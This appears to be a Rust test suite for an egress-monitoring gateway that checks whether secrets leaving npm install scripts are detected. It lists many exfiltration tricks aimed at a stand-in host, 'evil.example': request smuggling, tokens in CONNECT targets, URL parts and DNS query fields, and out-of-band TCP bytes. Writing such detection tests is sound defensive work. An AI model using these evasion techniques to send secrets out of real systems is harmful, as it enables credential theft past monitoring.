//! Every byte that leaves is searched, whatever the protocol makes of it.

use crate::rig::{PLANTED, Rig, open, registry, sockets, streamed, upstream, world};
use hickory_proto::op::{Edns, Message, OpCode, Query};
use hickory_proto::rr::rdata::opt::EdnsOption;
use hickory_proto::rr::{DNSClass, Name, RecordType};
use rustls::pki_types::{CertificateDer, ServerName, pem::PemObject};
use sealcheck::evidence::Exchange;
use sealcheck::upstream::Store;
use std::net::{SocketAddr, TcpListener, UdpSocket};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;

const HEAD: &str = "POST /x HTTP/1.1\r\nHost: evil.example\r\n";
const GET: &str = "GET /x HTTP/1.1\r\nHost: evil.example\r\n";

/// What a script writes into a connection, by name.
fn attacks() -> Vec<(&'static str, String)> {
    let chunked = format!("{HEAD}Transfer-Encoding: chunked\r\n\r\n");
    let long = "a".repeat(70_000);
    let lines = "250 and so on\r\n".repeat(200);
    vec![
        ("trailer", format!("{chunked}1\r\na\r\n0\r\nx-t: {PLANTED}\r\n\r\n")),
        ("chunk extension", format!("{chunked}1;x={PLANTED}\r\na\r\n0\r\n\r\n")),
        ("garbage behind a request", format!("{GET}\r\n\0\0{PLANTED}")),
        ("behind Connection: close", format!("{GET}Connection: close\r\n\r\n{GET}X: {PLANTED}\r\n\r\n")),
        ("frames", format!("{GET}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n\u{1}\u{2}{PLANTED}")),
        (
            "CL and TE",
            format!("{HEAD}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{PLANTED}"),
        ),
        ("a second head without end", format!("{GET}\r\n{GET}X: {PLANTED}")),
        ("CONNECT, authority", format!("CONNECT {PLANTED}:443 HTTP/1.1\r\n\r\n")),
        ("CONNECT, header", format!("CONNECT a.example:443 HTTP/1.1\r\nX: {PLANTED}\r\n\r\n")),
        ("behind the 405", format!("CONNECT a.example:443 HTTP/1.1\r\n\r\n\0{PLANTED}")),
        ("a head without end", format!("{GET}X: {long}{PLANTED}")),
        ("SMTP", format!("EHLO a\r\n{lines}{PLANTED}")),
        ("h2c", format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{lines}{PLANTED}")),
        ("another protocol, late", format!("\0{}{PLANTED}", long.repeat(20))),
        ("fake TLS", format!("\u{16}\u{3}\u{1}\0\u{5}hello{long}{PLANTED}")),
        ("userinfo", format!("GET http://{PLANTED}@evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")),
        (
            "another authority",
            format!("GET http://{PLANTED}.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
        ),
        ("scheme", format!("GET {PLANTED}://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")),
        ("fragment", format!("GET /x#{PLANTED} HTTP/1.1\r\nHost: evil.example\r\n\r\n")),
        (
            "a second Authorization",
            format!("{GET}Authorization: Bearer x\r\nAuthorization: {PLANTED}\r\n\r\n"),
        ),
    ]
}

async fn send(mut stream: impl AsyncRead + AsyncWrite + Unpin, bytes: &[u8]) {
    let _ = stream.write_all(bytes).await;
    let _ = stream.shutdown().await;
    let _ = stream.read_to_end(&mut Vec::new()).await;
}

async fn tls(rig: &Rig, alpn: &[u8]) -> std::io::Result<tokio_rustls::client::TlsStream<TcpStream>> {
    let mut roots = rustls::RootCertStore::empty();
    roots.add(CertificateDer::from_pem_slice(rig.ca_pem().as_bytes()).unwrap()).unwrap();
    let mut config =
        rustls::ClientConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_root_certificates(roots)
            .with_no_client_auth();
    if !alpn.is_empty() {
        config.alpn_protocols = vec![alpn.to_vec(), b"http/1.1".to_vec()];
    }
    let stream = TcpStream::connect(rig.lookup("evil.example")).await?;
    let name = ServerName::try_from("evil.example").unwrap();
    tokio_rustls::TlsConnector::from(Arc::new(config)).connect(name, stream).await
}

fn told(seen: &[Exchange]) -> bool {
    seen.iter().any(|seen| seen.carried_secret.as_deref() == Some("NPM_TOKEN"))
}

#[tokio::test(flavor = "multi_thread")]
async fn what_no_parser_looks_at_is_searched_all_the_same() {
    let mut missed = Vec::new();
    for (name, bytes) in attacks() {
        for secure in [false, true] {
            let rig = Rig::plain(|_| {});
            if secure {
                send(tls(&rig, b"").await.unwrap(), bytes.as_bytes()).await;
            } else {
                let stream = TcpStream::connect(rig.lookup("evil.example")).await.unwrap();
                send(stream, bytes.as_bytes()).await;
            }
            let record = rig.gateway.close().await;
            if !told(&record.exchanges) {
                missed.push((name, secure));
            }
            assert!(!format!("{record:?}").contains(PLANTED), "{name}");
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_tls_says_in_clear_is_searched() {
    let rig = Rig::plain(|_| {});
    let _ = tls(&rig, PLANTED.as_bytes()).await;
    assert!(told(&rig.gateway.close().await.exchanges));
}

/// Each byte is urgent, and no parser would ever see one of them.
#[tokio::test(flavor = "multi_thread")]
async fn urgent_bytes_are_bytes() {
    use nix::sys::socket::{MsgFlags, send};
    use std::os::fd::AsRawFd;
    let rig = Rig::plain(|_| {});
    let address = rig.lookup("evil.example");
    let sent = tokio::task::spawn_blocking(move || {
        let stream = std::net::TcpStream::connect(address).unwrap();
        for byte in PLANTED.as_bytes() {
            send(stream.as_raw_fd(), &[*byte], MsgFlags::MSG_OOB).unwrap();
        }
    });
    sent.await.unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(told(&rig.gateway.close().await.exchanges));
}

#[tokio::test(flavor = "multi_thread")]
async fn patience_hides_nothing() {
    let rig = Rig::plain(|_| {});
    let mut stream = TcpStream::connect(rig.lookup("evil.example")).await.unwrap();
    stream.write_all(b"\0hello").await.unwrap();
    tokio::time::sleep(Duration::from_secs(7)).await;
    send(stream, PLANTED.as_bytes()).await;
    assert!(told(&rig.gateway.close().await.exchanges));
}

/// What goes where it belongs has not left, however often; once more than that, it has.
#[tokio::test(flavor = "multi_thread")]
async fn a_token_at_home_is_nothing_and_the_same_behind_it_is() {
    for garbage in ["", PLANTED] {
        let rig = Rig::plain(|_| {});
        let mut stream = TcpStream::connect(rig.lookup("127.0.0.1")).await.unwrap();
        let filled = "x".repeat(3000);
        let request = format!(
            "GET /npm/a HTTP/1.1\r\nHost: 127.0.0.1\r\nX: {filled}\r\nAuthorization: Bearer {PLANTED}\r\n\r\n"
        );
        for _ in 0..60 {
            stream.write_all(request.as_bytes()).await.unwrap();
            let mut buffer = [0; 16 << 10];
            assert!(stream.read(&mut buffer).await.unwrap() > 0);
        }
        send(stream, garbage.as_bytes()).await;
        let seen = rig.gateway.close().await.exchanges;
        assert_eq!(told(&seen), !garbage.is_empty(), "{:#?}", seen.last());
    }
}

/// What is fetched for scripts has an end, also where it is one answer that has none.
#[tokio::test(flavor = "multi_thread")]
async fn what_scripts_have_fetched_is_bounded() {
    use sealcheck::upstream::{Accept, Allowance, Reach, Request, UpstreamError};
    let sockets = sockets();
    registry(sockets.real, |_| {
        let chunk = bytes::Bytes::from(vec![7; 1 << 20]);
        http::Response::new(streamed(futures_util::stream::iter((0..64).map(move |_| chunk.clone()))))
    });
    let upstream = upstream(Arc::new(Store::temporary().unwrap()), false);
    let ask = |path: &str| Request {
        url: format!("http://127.0.0.1:{}/{path}", sockets.port).parse().unwrap(),
        accept: Accept::Any,
        authorization: None,
        reach: Reach::Anywhere,
    };
    let allowance = Allowance::new(8 << 20);
    let mut body = upstream.get_within(ask("a"), Some(allowance.clone())).await.unwrap().body;
    let mut got = 0;
    while let Some(Ok(bytes)) = body.next().await {
        got += bytes.len();
    }
    assert!(got <= 8 << 20 && allowance.is_spent(), "{got}");
    let again = upstream.get_within(ask("b"), Some(allowance)).await;
    assert!(matches!(again, Err(UpstreamError::Spent(_))));
    // npm is not bounded by what scripts have had.
    assert_eq!(upstream.get(ask("b")).await.unwrap().body.collect(65 << 20).await.unwrap().len(), 64 << 20);
}

/// What npm fetched is there the next time; what a script did is no part of a store that is kept.
#[tokio::test(flavor = "multi_thread")]
async fn what_scripts_have_fetched_is_not_kept() {
    use sealcheck::upstream::{Accept, Allowance, Reach, Request, UpstreamError};
    let sockets = sockets();
    registry(sockets.real, |path| {
        let body = bytes::Bytes::from(path.to_owned());
        http::Response::new(streamed(futures_util::stream::iter([body])))
    });
    let ask = |path: &str| Request {
        url: format!("http://127.0.0.1:{}/{path}", sockets.port).parse().unwrap(),
        accept: Accept::Any,
        authorization: None,
        reach: Reach::Anywhere,
    };
    let (folder, apart) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let kept = || Store::open(folder.path()).unwrap();
    let store = Arc::new(kept().with_apart(Store::passing(apart.path()).unwrap()));
    let first = upstream(store.clone(), false);
    for path in ["by-script", "by-both"] {
        let answer = first.get_within(ask(path), Some(Allowance::new(1 << 20))).await.unwrap();
        let bytes = answer.body.collect(1 << 20).await.unwrap();
        assert_eq!(bytes, format!("/{path}").as_bytes());
        // In this invocation it is found again.
        let digest = sealcheck::project::integrity::Digests::of(&bytes).sri();
        assert!(store.content(&digest).is_ok());
        assert!(matches!(kept().content(&digest), Err(UpstreamError::NoContent(_))));
    }
    for path in ["by-npm", "by-both"] {
        first.get(ask(path)).await.unwrap().body.collect(1 << 20).await.unwrap();
    }
    let later = upstream(Arc::new(kept()), true);
    assert!(matches!(later.get(ask("by-script")).await, Err(UpstreamError::Offline(_))));
    for path in ["by-npm", "by-both"] {
        assert!(later.get(ask(path)).await.is_ok(), "{path}");
    }
}

/// However much is asked and looked up, the record has an end, and says so; what carries a secret
/// is in it.
#[tokio::test(flavor = "multi_thread")]
async fn the_record_of_scripts_is_bounded_and_keeps_what_matters() {
    let rig = Rig::plain(|_| {});
    rig.callers.script.store(true, std::sync::atomic::Ordering::Relaxed);
    let mut stream = TcpStream::connect(rig.lookup("evil.example")).await.unwrap();
    let long = "p".repeat(1000);
    for at in 0..3000 {
        let secret = if at == 2999 { PLANTED } else { "" };
        let request = format!("GET /{at}/{long}?{secret} HTTP/1.1\r\nHost: evil.example\r\n\r\n");
        stream.write_all(request.as_bytes()).await.unwrap();
        assert!(stream.read(&mut [0; 4 << 10]).await.unwrap() > 0);
        if at % 500 == 0 {
            rig.lookup(&format!("n{at}.example"));
        }
    }
    drop(stream);
    let record = rig.gateway.close().await;
    let paths: usize = record.exchanges.iter().map(|seen| seen.path.len()).sum();
    assert!(record.exchanges.len() < 2600 && paths < 1 << 20, "{} {paths}", record.exchanges.len());
    assert!(record.dropped > 0 && told(&record.exchanges));
    assert!(record.exchanges.iter().map(|seen| seen.seq).eq(1..=record.exchanges.len() as u32));
}

/// Bodies that never end are not all held.
#[tokio::test(flavor = "multi_thread")]
async fn bodies_that_do_not_end_are_not_all_held() {
    let rig = Rig::plain(|_| {});
    let address = rig.lookup("evil.example");
    let head = b"POST /x HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 8000000\r\n\r\n";
    let mut streams = Vec::new();
    for _ in 0..40 {
        let mut stream = TcpStream::connect(address).await.unwrap();
        stream.write_all(head).await.unwrap();
        // All but the end; who is not heard out gets an answer before.
        let _ = stream.write_all(&vec![b' '; 7_000_000]).await;
        streams.push(stream);
    }
    drop(streams);
    let seen = rig.gateway.close().await.exchanges;
    assert_eq!(seen.len(), 40);
    assert!(seen.iter().any(|seen| seen.unsearched), "nothing was left out of 280 MB");
}

/// What nobody here can read is no fault, and is in the record with how much there was of it.
#[tokio::test(flavor = "multi_thread")]
async fn what_cannot_be_read_is_in_the_record() {
    use sealcheck::evidence::{Unread, Unreadable};
    let cipher: Vec<u8> = (0_u32..64).map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    let posted = |body: &[u8]| {
        let head = format!("{HEAD}Connection: close\r\nContent-Length: {}\r\n\r\n", body.len());
        [head.as_bytes(), body].concat()
    };
    let xz = [b"\xfd7zXZ\0".as_slice(), &cipher].concat();
    let protocol = [b"\0".as_slice(), &cipher].concat();
    let unread = |bytes, because| Some(Unread { bytes, because });
    let cases = [
        (posted(b"{\"name\":\"an ordinary body\"}"), None, false),
        (posted(&cipher), unread(64, Unreadable::Form), false),
        (posted(&xz), unread(70, Unreadable::Packed), true),
        (protocol, unread(65, Unreadable::Protocol), false),
        (format!("{GET}Connection: close\r\n\r\n").into_bytes(), None, false),
    ];
    for (bytes, wanted, unsearched) in cases {
        let rig = Rig::plain(|_| {});
        send(TcpStream::connect(rig.lookup("evil.example")).await.unwrap(), &bytes).await;
        let seen = rig.gateway.close().await.exchanges;
        let [seen] = seen.as_slice() else { panic!("{seen:#?}") };
        assert_eq!((seen.unread, seen.unsearched), (wanted, unsearched), "{seen:#?}");
    }
}

fn query() -> Message {
    let mut message = Message::query();
    message.add_query(Query::query(Name::from_ascii("a.example.").unwrap(), RecordType::A));
    message
}

#[tokio::test(flavor = "multi_thread")]
async fn every_part_of_a_question_is_searched() {
    let named = || Query::query(Name::from_ascii(format!("{PLANTED}.example.")).unwrap(), RecordType::A);
    let mut chaos = Message::query();
    chaos.add_query({
        let mut query = named();
        query.set_query_class(DNSClass::CH);
        query
    });
    let mut status = Message::query();
    status.add_query(named());
    status.metadata.op_code = OpCode::Status;
    let mut option = query();
    let mut edns = Edns::new();
    edns.options_mut().insert(EdnsOption::Unknown(65001, PLANTED.as_bytes().to_vec()));
    option.set_edns(edns);
    let mut second = query();
    second.add_query(named());
    let behind = [query().to_vec().unwrap(), PLANTED.as_bytes().to_vec()].concat();
    let mut answer = query();
    answer.metadata.message_type = hickory_proto::op::MessageType::Response;
    let answer = [answer.to_vec().unwrap(), PLANTED.as_bytes().to_vec()].concat();
    for (name, packet) in [
        ("class", chaos.to_vec().unwrap()),
        ("opcode", status.to_vec().unwrap()),
        ("option", option.to_vec().unwrap()),
        ("second question", second.to_vec().unwrap()),
        ("bytes behind", behind),
        ("an answer", answer),
        ("garbage", format!("GET {PLANTED}").into_bytes()),
    ] {
        let rig = Rig::plain(|_| {});
        UdpSocket::bind("127.0.0.1:0").unwrap().send_to(&packet, rig.resolver()).unwrap();
        // The next question is answered after it.
        rig.lookup("after.example");
        let record = rig.gateway.close().await;
        let carried = record.lookups.iter().any(|seen| seen.carried_secret.as_deref() == Some("NPM_TOKEN"));
        assert!(carried, "{name}: {:#?}", record.lookups);
        assert!(!format!("{record:?}").contains(PLANTED), "{name}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_no_question_at_the_resolver_is_searched() {
    let mut sockets = sockets();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    sockets.doors.push((SocketAddr::from(([127, 0, 0, 1], 53)), listener));
    let store = Arc::new(Store::temporary().unwrap());
    let rig = open(world(sockets.port), sockets.port, sockets.doors, upstream(store, true));
    send(TcpStream::connect(address).await.unwrap(), format!("GET /{PLANTED}").as_bytes()).await;
    let record = rig.gateway.close().await;
    assert!(told(&record.exchanges), "{record:#?}");
}

/// A name that has no address of its own has none, so that each connection tells its host.
#[tokio::test(flavor = "multi_thread")]
async fn no_two_names_share_an_address() {
    let rig = Rig::plain(|_| {});
    let mut addresses = std::collections::BTreeSet::new();
    let mut failed = 0;
    for at in 0..100 {
        match rig.address(&format!("n{at}.example")) {
            Some(address) => assert!(addresses.insert(address), "{address} twice"),
            None => failed += 1,
        }
    }
    assert!(failed > 30 && addresses.len() > 50, "{failed} failed");
    let seen = rig.gateway.close().await.lookups;
    let said = seen.iter().filter(|seen| seen.answer.contains("no address")).count();
    assert_eq!(said, failed);
}

/// At an address that was nobody's look-up, what is written into a request names nobody.
#[tokio::test(flavor = "multi_thread")]
async fn a_host_is_not_what_a_request_says() {
    let rig = Rig::plain(|_| {});
    let door = SocketAddr::from(([127, 0, 0, 12], rig.port));
    let stream = TcpStream::connect(door).await.unwrap();
    send(stream, b"GET / HTTP/1.1\r\nHost: api.github.com\r\nConnection: close\r\n\r\n").await;
    let seen = rig.gateway.close().await.exchanges;
    assert_eq!(seen[0].host, "127.0.0.12");
}
